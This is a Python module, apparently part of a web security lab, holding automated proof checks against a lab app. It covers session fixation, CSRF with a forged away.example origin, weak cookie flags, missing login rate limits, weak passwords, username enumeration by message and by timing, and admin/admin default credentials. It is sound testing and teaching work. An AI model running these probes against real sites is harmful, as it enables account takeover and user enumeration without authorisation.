"""Exploits of sessions and signing in."""

import secrets
from collections.abc import Awaitable

from lab.client import Lab, Reply, shortest
from lab.world import USERS


async def _fixation(lab: Lab) -> bool:
    planted = {"Cookie": f"portal=planted-{secrets.token_hex(4)}"}
    fields = {"username": "alice", "password": USERS["alice"]}
    await lab.send("POST", "/portal/login", headers=planted, data=fields)
    return "Signed in as alice" in (await lab.send("GET", "/portal/login", headers=planted)).text


async def _csrf(lab: Lab) -> bool:
    signed_in = await lab.post("/login", username="bob", password=USERS["bob"])
    headers = {"Cookie": f"session={signed_in.cookies['session']}", "Origin": "https://away.example"}
    forged = await lab.send("POST", "/account/email", headers=headers, data={"email": "me@away.example"})
    return "Changed to me@away.example" in forged.text and "SameSite=None" in signed_in.set_cookies[0]


async def _link(lab: Lab) -> bool:
    signed_in = await lab.post("/login", username="bob", password=USERS["bob"])
    headers = {"Cookie": f"session={signed_in.cookies['session']}", "Referer": "https://away.example/"}
    words = f"owned-{secrets.token_hex(4)}"
    await lab.send("GET", f"/account/motto?motto={words}", headers=headers)
    return words in (await lab.send("GET", "/account/motto", headers=headers)).text


async def _flags(lab: Lab) -> bool:
    (said,) = (await lab.get("/preferences")).set_cookies
    return not all(flag in said for flag in ("HttpOnly", "Secure", "SameSite"))


async def _no_limit(lab: Lab) -> bool:
    name = f"victim-{secrets.token_hex(4)}"  # nobody else's sign-in is to be locked
    tries = [await lab.post("/login", username=name, password="guess") for _ in range(12)]  # noqa: S106
    return 429 not in [reply.status for reply in tries]


async def _weak(lab: Lab) -> bool:
    name = f"robin-{secrets.token_hex(4)}"
    await lab.post("/register", username=name, password="1")  # noqa: S106
    return (await lab.post("/login", username=name, password="1")).status == 303  # noqa: S106


async def _message(lab: Lab) -> bool:
    known = await lab.post("/recover", username="alice")
    unknown = await lab.post("/recover", username="nosuch")
    return known.status != unknown.status


async def _time(lab: Lab) -> bool:
    def tried(name: str) -> Awaitable[Reply]:
        return lab.send("POST", "/api/auth", json={"username": name, "password": "x"})

    return await shortest(lambda: tried("alice")) - await shortest(lambda: tried("nosuch")) > 0.2


async def _default(lab: Lab) -> bool:
    return "Welcome, admin" in (await lab.post("/console/login", username="admin", password="admin")).text  # noqa: S106


PROOFS = {
    "session-fixation": _fixation,
    "csrf": _csrf,
    "csrf-link": _link,
    "cookie-flags": _flags,
    "rate-limit": _no_limit,
    "weak-password": _weak,
    "enumeration-message": _message,
    "enumeration-time": _time,
    "default-credentials": _default,
}
